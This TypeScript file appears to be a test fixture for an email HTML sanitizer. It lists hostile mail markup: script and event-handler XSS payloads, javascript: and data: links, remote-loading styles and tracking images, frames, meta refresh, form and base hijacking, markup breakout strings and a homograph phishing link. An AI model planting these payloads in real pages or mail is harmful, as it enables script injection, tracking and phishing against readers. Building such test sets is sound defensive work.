/** What a mail may try in a browser. `out` is another site; `alert(1)` shows that something ran. */
export interface Bait {
  readonly name: string;
  readonly html: (out: string) => string;
  readonly acts: boolean; // today's Chromium loads, runs or leaves when a page shows it as it is
}

export const BAITS: readonly Bait[] = [
  {
    name: 'scripts',
    acts: true,
    html: (out) => `<script src="${out}/a.js"></script><script>alert(1)</script>`,
  },
  {
    name: 'event handlers',
    acts: true,
    html: (out) =>
      `<img src="${out}/x" onerror="alert(1)"><svg onload="alert(1)"></svg><details open ontoggle="alert(1)"></details><input autofocus onfocus="alert(1)">`,
  },
  {
    name: 'styles',
    acts: true,
    html: (out) =>
      `<style>@import url(${out}/i.css); main{display:none} body{background:url(${out}/b)}</style><div style="position:fixed;inset:0;z-index:9999;background:url(${out}/o)">x</div><p style="width:expression(alert(1))">`,
  },
  {
    name: 'pictures that count who looks',
    acts: true,
    html: (out) =>
      `<img src="${out}/1"><img srcset="${out}/2 1x, ${out}/3 2x"><picture><source srcset="${out}/4"><img></picture><svg><image href="${out}/5"/></svg><input type="image" src="${out}/6"><video poster="${out}/7"></video><table background="${out}/8"></table>`,
  },
  {
    name: 'links that load ahead',
    acts: true,
    html: (out) =>
      `<link rel="stylesheet" href="${out}/1.css"><link rel="prefetch" href="${out}/2"><link rel="preload" as="image" href="${out}/3"><link rel="dns-prefetch" href="//tracker.example.com"><link rel="icon" href="${out}/4">`,
  },
  {
    name: 'frames and objects',
    acts: true,
    html: (out) =>
      `<iframe src="${out}/1"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="${out}/2"></object><embed src="${out}/3">`,
  },
  {
    name: 'a refresh to elsewhere',
    acts: true,
    html: (out) => `<meta http-equiv="refresh" content="0;url=${out}/refresh">`,
  },
  {
    name: 'another base and another form',
    acts: false,
    html: (out) =>
      `<base href="${out}/"><form action="${out}/form" id="case-list"><input name="id" form="case-list"><button id="main" formaction="${out}/">OK</button></form>`,
  },
  {
    name: 'attributes that our own scripts obey',
    acts: false,
    html: (out) =>
      `<div hx-get="${out}/hx" hx-trigger="load" hx-on:load="alert(1)" data-hx-get="${out}/data" data-claim="${out}/claim"></div><a data-key="a" href="${out}/key">a</a>`,
  },
  {
    name: 'markup that breaks out',
    acts: false,
    html: () =>
      `"'></bdi></a></dd></p></div></details></section></main></body></html><!-- --><![CDATA[ <textarea><plaintext>`,
  },
  {
    name: 'links that run or deceive',
    acts: false,
    html: (out) =>
      `<a href="javascript:alert(1)">a</a><a href="data:text/html,<script>alert(1)</script>">b</a><a href="vbscript:msgbox(1)">c</a><a href="${out}/">https://desk.example.jp/</a><a href="https://exаmple.co.jp/">example.co.jp</a> javascript:alert(1) https://xn--exmple-4nf.co.jp/ をご覧ください。`,
  },
];
